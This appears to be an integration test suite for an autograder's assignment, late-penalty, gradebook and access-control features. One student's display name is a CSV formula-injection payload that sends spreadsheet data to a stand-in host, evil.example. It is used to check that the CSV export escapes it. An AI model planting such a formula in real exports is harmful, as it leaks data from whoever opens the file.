import path from 'node:path';
import { solutionFolderFiles } from '@grader/contracts';
import { loadExerciseFolder } from '../../api/src/exercises/exercise-package';
import { ApiClient } from '../support/http';
import { REPO_ROOT, startPipeline, type Pipeline } from '../support/pipeline';
import { expectProblem } from '../support/problem';

/**
 * Assignments reviewed as a careless or dishonest student and a careless instructor would use
 * them: dates with offsets and at the bounds, lateness and penalties, `best` and `last`, the
 * idempotency key across the close, other courses' assignments, CSV injection, hidden tests
 * before a student is done submitting, and malformed input. Through the real server and worker.
 */
const EXERCISE = 'sql-revenue-by-customer';
const pkg = loadExerciseFolder(path.join(REPO_ROOT, 'exercises', EXERCISE));
const read = (map: Record<string, string>) => Object.fromEntries(Object.entries(map).map(([to, from]) => [to, pkg.files[from]!]));
const SOLUTION = read(pkg.manifest.solution);
const WRONG = read(solutionFolderFiles(pkg.manifest, 'wrong/filters-orders'));
const MAX = pkg.manifest.maxScore;
const HIDDEN_TEST = pkg.manifest.tests.find((t) => t.visibility === 'hidden')!.name;

const HOUR = 3600_000;
const DAY = 24 * HOUR;
const from = (ms: number) => new Date(Date.now() + ms).toISOString();
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
async function waitUntil(isoMoment: string): Promise<void> {
  while (Date.now() <= Date.parse(isoMoment) + 1000) await sleep(250);
}

type Student = ApiClient & { userId: string };
let pipeline: Pipeline;
let instructor: ApiClient;
let courseId: string;
let otherCourseId: string;
const students = {} as Record<'erin' | 'frank' | 'grace' | 'heidi' | 'ivan' | 'mallory' | 'oscar', Student>;

async function addStudent(username: string, course: string, displayName = username): Promise<Student> {
  const created = await instructor.request('POST', '/api/users', { username, displayName, role: 'student', courseId: course });
  expect(created.status).toBe(201);
  return Object.assign(new ApiClient(pipeline.url, created.body.token), { userId: created.body.user.id as string });
}

async function assign(body: Record<string, unknown>, course = courseId): Promise<any> {
  const created = await instructor.request('POST', `/api/courses/${course}/assignments`, { exercises: [EXERCISE], ...body });
  expect(created.status).toBe(201);
  return created.body;
}

function submitTo(who: ApiClient, assignment: string, files: Record<string, string> = SOLUTION, headers: Record<string, string> = {}) {
  return who.request('POST', '/api/submissions', { exercise: EXERCISE, files, assignment }, headers);
}

async function gradedSubmission(who: ApiClient, assignment: string, files: Record<string, string> = SOLUTION): Promise<any> {
  const created = await submitTo(who, assignment, files);
  expect(created.status).toBe(202);
  const graded = await who.waitForGrade(created.body.id, 180_000);
  expect(graded.status).toBe('graded');
  return graded;
}

/** Reads a finished submission's event stream whole (it ends after graded). */
async function eventsOf(who: ApiClient, id: string): Promise<string> {
  const response = await fetch(`${pipeline.url}/api/submissions/${id}/events`, { headers: { accept: 'text/event-stream', authorization: `Bearer ${who.token}` } });
  expect(response.status).toBe(200);
  return response.text();
}

const testNames = (submission: { tests: Array<{ name: string }> }) => submission.tests.map((t) => t.name);

beforeAll(async () => {
  pipeline = await startPipeline();
  instructor = await pipeline.createUser('instructor', 'review-teacher');
  courseId = (await instructor.request('POST', '/api/courses', { name: 'Review 101' })).body.id;
  otherCourseId = (await instructor.request('POST', '/api/courses', { name: 'Other 202' })).body.id;
  for (const name of ['erin', 'frank', 'grace', 'heidi', 'ivan'] as const) students[name] = await addStudent(name, courseId);
  students.mallory = await addStudent('mallory', courseId, '=HYPERLINK("http://evil.example/?"&A1,"click")');
  students.oscar = await addStudent('oscar', otherCourseId);
}, 180_000);

afterAll(async () => {
  await pipeline?.close();
});

describe('setting an assignment: dates and policies', () => {
  it('takes dates with a non-UTC offset and gives them back as the same moments in UTC', async () => {
    const a = await assign({ title: 'Offsets', opensAt: '2030-03-01T10:00:00+02:00', dueAt: '2030-03-08T23:30:00-05:00' });
    expect(a.opensAt).toBe('2030-03-01T08:00:00.000Z');
    expect(a.dueAt).toBe('2030-03-09T04:30:00.000Z');
  });

  it('refuses an assignment that opens at the moment it is due, even when the two are written with different offsets', async () => {
    const same = await instructor.request('POST', `/api/courses/${courseId}/assignments`, {
      title: 'No window',
      exercises: [EXERCISE],
      opensAt: '2030-03-01T12:00:00+02:00',
      dueAt: '2030-03-01T10:00:00Z',
    });
    expectProblem(same, 422, 'invalid_assignment');
    expect(same.body.errors.map((e: { path: string }) => e.path)).toEqual(['dueAt']);
  });

  it('refuses a date that is year 10000 or year -1 once in UTC, so that every stored date reads back as the contract says', async () => {
    for (const [opensAt, dueAt] of [
      ['9999-12-31T20:00:00-14:00', '9999-12-31T23:00:00-14:00'],
      ['0000-01-01T00:00:00+01:00', '0000-01-01T00:30:00+00:00'],
    ]) {
      const created = await instructor.request('POST', `/api/courses/${courseId}/assignments`, { title: 'Far away', exercises: [EXERCISE], opensAt, dueAt });
      expectProblem(created, 400, 'validation_failed');
    }
  });

  it('takes a late period of 1 and 120 days and a fractional percentage, and refuses 0 and 121 days with a validation problem', async () => {
    await assign({ title: 'Late 1', opensAt: from(-DAY), dueAt: from(DAY), late: { kind: 'accepted', days: 1, penaltyPercentPerDay: 0 } });
    const long = await assign({ title: 'Late 120', opensAt: from(-DAY), dueAt: from(DAY), late: { kind: 'accepted', days: 120, penaltyPercentPerDay: 12.5 } });
    expect(long.late).toEqual({ kind: 'accepted', days: 120, penaltyPercentPerDay: 12.5 });
    for (const days of [0, 121, 1.5]) {
      const refused = await instructor.request('POST', `/api/courses/${courseId}/assignments`, {
        title: 'Bad late',
        exercises: [EXERCISE],
        opensAt: from(-DAY),
        dueAt: from(DAY),
        late: { kind: 'accepted', days, penaltyPercentPerDay: 10 },
      });
      expectProblem(refused, 400, 'validation_failed');
    }
  });
});

describe('late work and penalties', () => {
  it('takes a fractional percentage per started day off the score', async () => {
    const a = await assign({ title: 'Fractional', opensAt: from(-10 * DAY), dueAt: from(-36 * HOUR), late: { kind: 'accepted', days: 3, penaltyPercentPerDay: 12.5 } });
    const graded = await gradedSubmission(students.erin, a.id);
    expect(graded.assignment).toMatchObject({ daysLate: 2, penaltyPercent: 25, adjustedScore: (MAX * 75) / 100 });
  });

  it('refuses a submission just after the due date when late work is closed, storing nothing', async () => {
    const a = await assign({ title: 'Closing now', opensAt: from(-DAY), dueAt: from(3000) });
    await waitUntil(a.dueAt);
    const before = pipeline.submissionRows();
    expectProblem(await submitTo(students.frank, a.id), 409, 'assignment_closed');
    expect(pipeline.submissionRows()).toBe(before);
    const mine = await students.frank.request('GET', `/api/assignments/${a.id}`);
    expect(mine.body.mine).toMatchObject({ state: 'closed', closesAt: null });
  });

  it('marks a submission a moment after the due date one day late', async () => {
    const a = await assign({ title: 'A moment late', opensAt: from(-DAY), dueAt: from(3000), late: { kind: 'accepted', days: 2, penaltyPercentPerDay: 10 } });
    await waitUntil(a.dueAt);
    const graded = await gradedSubmission(students.frank, a.id);
    expect(graded.assignment).toMatchObject({ daysLate: 1, penaltyPercent: 10, adjustedScore: (MAX * 90) / 100 });
  });
});

describe('extensions', () => {
  it('refuses an extension for a student of another course, and for a user who does not exist', async () => {
    const a = await assign({ title: 'Extensions', opensAt: from(-DAY), dueAt: from(DAY) });
    expectProblem(await instructor.request('PUT', `/api/assignments/${a.id}/extensions/${students.oscar.userId}`, { dueAt: from(2 * DAY) }), 403, 'not_in_course');
    const nobody = await instructor.request('PUT', `/api/assignments/${a.id}/extensions/00000000-0000-4000-8000-000000000000`, { dueAt: from(2 * DAY) });
    expect([403, 404]).toContain(nobody.status);
    expectProblem(nobody, nobody.status, nobody.body.code);
  });

  it('takes an extension written with an offset as the same moment in UTC', async () => {
    const a = await assign({ title: 'Extension offset', opensAt: from(-DAY), dueAt: from(DAY) });
    const granted = await instructor.request('PUT', `/api/assignments/${a.id}/extensions/${students.grace.userId}`, { dueAt: '2031-01-01T01:00:00+01:00' });
    expect(granted.status).toBe(200);
    expect(granted.body.dueAt).toBe('2031-01-01T00:00:00.000Z');
    expect((await students.grace.request('GET', `/api/assignments/${a.id}`)).body.mine).toMatchObject({ dueAt: '2031-01-01T00:00:00.000Z', extended: true, state: 'open' });
  });
});

describe('which submission counts in the gradebook', () => {
  it('`best` keeps the right solution after a wrong one and the right one before a wrong one; `last` takes the later, lower one', async () => {
    const best = await assign({ title: 'Best counts', opensAt: from(-DAY), dueAt: from(DAY) });
    const last = await assign({ title: 'Last counts', opensAt: from(-DAY), dueAt: from(DAY), counts: 'last' });
    // heidi: wrong, then right (to best); right, then wrong (to last).
    const wrong = await gradedSubmission(students.heidi, best.id, WRONG);
    expect(wrong.score).toBeLessThan(MAX);
    await gradedSubmission(students.heidi, best.id, SOLUTION);
    await gradedSubmission(students.heidi, last.id, SOLUTION);
    const lower = await gradedSubmission(students.heidi, last.id, WRONG);

    const bestBook = (await instructor.request('GET', `/api/assignments/${best.id}/gradebook`)).body;
    const heidiBest = bestBook.rows.find((r: { username: string }) => r.username === 'heidi');
    expect(heidiBest).toMatchObject({ total: MAX, cells: [{ score: MAX, adjustedScore: MAX, submissions: 2 }] });

    const lastBook = (await instructor.request('GET', `/api/assignments/${last.id}/gradebook`)).body;
    const heidiLast = lastBook.rows.find((r: { username: string }) => r.username === 'heidi');
    expect(heidiLast).toMatchObject({ total: lower.score, cells: [{ submissionId: lower.id, score: lower.score, submissions: 2 }] });
    // Every student of the course has a row, the ones who never submitted with nothing counted.
    expect(lastBook.rows.find((r: { username: string }) => r.username === 'ivan')).toMatchObject({ total: 0, cells: [{ submissionId: null, score: null, submissions: 0 }] });
  });
});

describe('the idempotency key around the close', () => {
  let soon: any;
  let firstId: string;
  const key = 'review-key-0001';

  beforeAll(async () => {
    // Accepted long before the close on any machine (one POST), then the close is waited for.
    soon = await assign({ title: 'Due in seconds', opensAt: from(-DAY), dueAt: from(30_000), revealTestsAfterDue: true });
    const created = await submitTo(students.ivan, soon.id, SOLUTION, { 'Idempotency-Key': key });
    expect(created.status).toBe(202);
    firstId = created.body.id;
    await students.ivan.waitForGrade(firstId, 180_000);
    await waitUntil(soon.dueAt);
  }, 240_000);

  it('replays the same body after the assignment closed with the first submission, not a refusal', async () => {
    const replay = await submitTo(students.ivan, soon.id, SOLUTION, { 'Idempotency-Key': key });
    expect(replay.status).toBe(202);
    expect(replay.body.id).toBe(firstId);
    expect(replay.headers.get('idempotent-replayed')).toBe('true');
  });

  it('refuses the same key sent with another assignment id', async () => {
    const other = await assign({ title: 'Another', opensAt: from(-DAY), dueAt: from(DAY) });
    expectProblem(await submitTo(students.ivan, other.id, SOLUTION, { 'Idempotency-Key': key }), 422, 'idempotency_key_reused');
  });

  it('does not reveal an exercise’s hidden tests through a past assignment while another of the student’s assignments holding it is still before their due date', async () => {
    const open = await assign({ title: 'Same exercise, still open', opensAt: from(-DAY), dueAt: from(2 * DAY), revealTestsAfterDue: true });
    expect((await students.ivan.request('GET', `/api/assignments/${open.id}`)).body.mine.state).toBe('open');
    const submission = (await students.ivan.request('GET', `/api/submissions/${firstId}`)).body;
    expect(testNames(submission)).not.toContain(HIDDEN_TEST);
  });
});

describe('hidden tests in the late period', () => {
  let late: any;
  let submissionId: string;

  beforeAll(async () => {
    late = await assign({ title: 'Reveal, late work taken', opensAt: from(-10 * DAY), dueAt: from(-HOUR), late: { kind: 'accepted', days: 3, penaltyPercentPerDay: 10 }, revealTestsAfterDue: true });
    submissionId = (await gradedSubmission(students.grace, late.id, WRONG)).id;
  }, 240_000);

  it('keeps hidden tests hidden from a student who may still submit to the assignment (as Gradescope’s after_due_date does until the late due date), through get, list and events', async () => {
    expect((await students.grace.request('GET', `/api/assignments/${late.id}`)).body.mine.state).toBe('late');
    const one = (await students.grace.request('GET', `/api/submissions/${submissionId}`)).body;
    expect(testNames(one)).not.toContain(HIDDEN_TEST);
    const listed = (await students.grace.request('GET', '/api/submissions?limit=100')).body.items.find((s: { id: string }) => s.id === submissionId);
    expect(testNames(listed)).not.toContain(HIDDEN_TEST);
    expect(await eventsOf(students.grace, submissionId)).not.toContain(HIDDEN_TEST);
  });

  it('keeps hidden tests hidden before the due date on every route a student can read', async () => {
    const current = await assign({ title: 'Reveal later', opensAt: from(-DAY), dueAt: from(DAY), revealTestsAfterDue: true });
    const graded = await gradedSubmission(students.erin, current.id, WRONG);
    expect(graded.assignment.testsRevealed).toBe(false);
    expect(testNames(graded)).not.toContain(HIDDEN_TEST);
    const listed = (await students.erin.request('GET', '/api/submissions?limit=100')).body.items.find((s: { id: string }) => s.id === graded.id);
    expect(testNames(listed)).not.toContain(HIDDEN_TEST);
    expect(await eventsOf(students.erin, graded.id)).not.toContain(HIDDEN_TEST);
    for (const route of [`/api/assignments/${current.id}`, `/api/courses/${courseId}/assignments`]) {
      expect(JSON.stringify((await students.erin.request('GET', route)).body)).not.toContain(HIDDEN_TEST);
    }
  });
});

describe('other courses and the CSV', () => {
  it('refuses a student another course’s assignment, its list, its gradebook and its CSV', async () => {
    const a = await assign({ title: 'Not yours', opensAt: from(-DAY), dueAt: from(DAY) });
    expectProblem(await students.oscar.request('GET', `/api/assignments/${a.id}`), 403, 'not_in_course');
    expectProblem(await students.oscar.request('GET', `/api/courses/${courseId}/assignments`), 403, 'not_in_course');
    expectProblem(await students.oscar.request('GET', `/api/assignments/${a.id}/gradebook`), 403, 'forbidden');
    expectProblem(await students.oscar.request('GET', `/api/assignments/${a.id}/gradebook.csv`), 403, 'forbidden');
    expectProblem(await submitTo(students.oscar, a.id), 403, 'not_in_course');
  });

  it('writes a display name that starts with = as text in the CSV, never as a formula', async () => {
    const a = await assign({ title: 'CSV', opensAt: from(-DAY), dueAt: from(DAY) });
    const csv = await instructor.request<string>('GET', `/api/assignments/${a.id}/gradebook.csv`, undefined, { accept: 'text/csv' });
    expect(csv.status).toBe(200);
    const line = csv.body.split('\r\n').find((l) => l.startsWith('mallory,'))!;
    expect(line).toBeDefined();
    const displayCell = line.slice('mallory,'.length);
    expect(displayCell.replace(/^"/, '')).toMatch(/^'=/);
  });
});

describe('malformed input is a 4xx problem with a stable code, never a 5xx', () => {
  const valid = () => ({ title: 'x', exercises: [EXERCISE], opensAt: from(-DAY), dueAt: from(DAY) });

  it.each([
    ['an unknown field', { ...valid(), weight: 2 }],
    ['a title of 201 characters', { ...valid(), title: 'x'.repeat(201) }],
    ['a blank title', { ...valid(), title: '   ' }],
    ['51 exercises', { ...valid(), exercises: Array.from({ length: 51 }, (_, i) => `exercise-${i}`) }],
    ['no exercises', { ...valid(), exercises: [] }],
    ['a date without an offset', { ...valid(), dueAt: '2030-01-01T00:00:00' }],
    ['a date that does not exist', { ...valid(), dueAt: '2030-02-30T00:00:00Z' }],
    ['late: null', { ...valid(), late: null }],
    ['a penalty over 100 %', { ...valid(), late: { kind: 'accepted', days: 2, penaltyPercentPerDay: 100.5 } }],
    ['days on a closed policy', { ...valid(), late: { kind: 'closed', days: 2 } }],
    ['maxSubmissions 0', { ...valid(), maxSubmissions: 0 }],
  ])('refuses %s with validation_failed', async (_what, body) => {
    expectProblem(await instructor.request('POST', `/api/courses/${courseId}/assignments`, body), 400, 'validation_failed');
  });

  it('answers 404 not_found for a malformed id in any assignment path', async () => {
    const a = await assign({ title: 'Paths', opensAt: from(-DAY), dueAt: from(DAY) });
    for (const [method, route, body] of [
      ['GET', '/api/assignments/not-a-uuid', undefined],
      ['GET', '/api/assignments/not-a-uuid/gradebook', undefined],
      ['GET', '/api/assignments/not-a-uuid/gradebook.csv', undefined],
      ['GET', '/api/courses/not-a-uuid/assignments', undefined],
      ['POST', '/api/courses/not-a-uuid/assignments', valid()],
      ['PUT', `/api/assignments/${a.id}/extensions/not-a-uuid`, { dueAt: from(DAY) }],
      ['PUT', `/api/assignments/not-a-uuid/extensions/${students.erin.userId}`, { dueAt: from(DAY) }],
    ] as const) {
      expectProblem(await instructor.request(method, route, body), 404, 'not_found');
    }
  });

  it('refuses a submission naming an assignment that is not a uuid, or an extension without a date', async () => {
    expectProblem(await students.erin.request('POST', '/api/submissions', { exercise: EXERCISE, files: SOLUTION, assignment: 'week-1' }), 400, 'validation_failed');
    const a = await assign({ title: 'Ext body', opensAt: from(-DAY), dueAt: from(DAY) });
    for (const body of [{}, { dueAt: 'tomorrow' }, { dueAt: from(DAY), reason: 'ill' }]) {
      expectProblem(await instructor.request('PUT', `/api/assignments/${a.id}/extensions/${students.erin.userId}`, body), 400, 'validation_failed');
    }
  });
});
